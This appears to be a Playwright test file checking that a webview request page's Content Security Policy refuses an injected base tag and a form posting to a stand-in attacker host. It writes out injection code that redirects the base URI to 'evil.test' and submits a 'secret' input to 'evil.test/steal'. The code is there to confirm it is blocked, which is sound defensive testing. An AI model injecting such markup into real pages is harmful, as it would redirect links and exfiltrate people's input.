// The request page's CSP in a real Chromium: besides scripts and styles, an
// injected <base> and a <form> posting elsewhere are refused, so agent text
// that ever slipped into markup could not redirect the page's links or send
// the person's input anywhere.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../support/browser';
import { WebviewHarness } from '../support/webviewHarness';
import { chromiumSuite } from '../support/harness';
import { PAGE_READ_EVERY_MS, waitForValue } from '../support/waitUntil';

describe('request page: the CSP beyond scripts and styles', chromiumSuite(), () => {
  let browser: Browser | undefined;
  let harness: WebviewHarness | undefined;
  before(async () => {
    browser = await launchBrowser();
    harness = await WebviewHarness.start();
  });
  after(async () => {
    await browser?.close();
    await harness?.close();
  });

  test('an injected <base> and a form posting elsewhere are blocked by base-uri and form-action', async () => {
    if (!browser || !harness) throw new Error('the suite did not start');
    const page = await harness.open(browser);
    const requests: string[] = [];
    page.page.on('request', (request) => requests.push(request.url()));
    const baseAfter = await page.page.evaluate(() => {
      const base = document.createElement('base');
      base.href = 'http://evil.test/';
      document.head.prepend(base);
      return document.baseURI;
    });
    const form = await page.page.evaluate(() => {
      const form = document.createElement('form');
      form.action = 'http://evil.test/steal';
      form.method = 'post';
      const input = document.createElement('input');
      input.name = 'answer';
      input.value = 'secret';
      form.append(input);
      document.body.append(form);
      form.submit();
      return form.action;
    });
    assert.equal(form, 'http://evil.test/steal');
    // The browser reports violations as events after the fact: wait for the two this test provokes.
    const violations = await waitForValue(() => page.violations(), (seen) => ['base-uri', 'form-action'].every((kind) => seen.some((v) => v.startsWith(kind))), 'both violations reported', { everyMs: PAGE_READ_EVERY_MS });
    assert.ok(violations.some((v) => v.startsWith('base-uri')), `base-uri enforced: ${violations.join(' | ')}; baseURI was ${baseAfter}`);
    assert.ok(violations.some((v) => v.startsWith('form-action')), `form-action enforced: ${violations.join(' | ')}`);
    assert.ok(!requests.some((url) => url.startsWith('http://evil.test')), `nothing left for evil.test: ${requests.join(', ')}`);
    assert.ok(page.page.url().startsWith(harness.origin), 'the page did not navigate away');
    await page.page.close();
  });
});
